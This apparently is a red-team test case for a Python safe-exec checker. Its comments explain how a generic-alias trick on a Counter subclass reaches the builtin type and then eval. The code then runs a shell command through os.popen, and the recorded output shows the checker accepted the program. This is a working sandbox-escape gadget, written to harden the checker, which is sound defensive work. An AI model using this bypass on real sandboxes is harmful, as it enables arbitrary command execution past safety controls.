# expect: reject unbound
# line: 30
# verified: reaches its goal under plain python3 (3.11) in a temp dir
# why: fifteenth red team (round 15a), family G: a program subclass of a library class read through its own generic alias (Q[str].copy, QI = Q[int]; QI.copy): a subscript of a class, and a name bound to a class or its subscript, is judged as the class (the red team's program, ok_13)
# Mechanism: a program class Q(collections.Counter, typing.Generic[T0]); Q[int] is typing's 
# _GenericAlias of Q (Generic.__class_getitem__), bound to the plain name QI, which rule unbound 
# does not know as a class deriving from a library class. _GenericAlias.__getattr__ forwards 
# non-dunder names to __origin__: QI.copy is Counter.copy, QI.copy(P) = P.__class__(P) = the 
# builtin type. No dunder name is given to a builtin at run time.
# Goal reached: the builtin type by value, then eval (11b end gadget): runs id.
# Checker: build/safe-exec-check --rules rules FILE exits 0 (accepted) at HEAD 7bb35ca
# Output seen under python3 (3.11), run in a fresh temp dir:
#   by value: <class 'type'>
#   by value: <built-in function eval>
#   uid=0(root) gid=0(root) groups=0(root)
import collections
import copy
import typing

T0 = typing.TypeVar("T0")

class P:
    pass

class Q(collections.Counter, typing.Generic[T0]):
    pass


QI = Q[int]
T = QI.copy(P)
print("by value:", T)
ev = copy.deepcopy(T(typing.List[int])(int, ("eval",), name="__builtins__"))
print("by value:", ev)
print(ev("__import__('os').popen('id').read()"), end="")
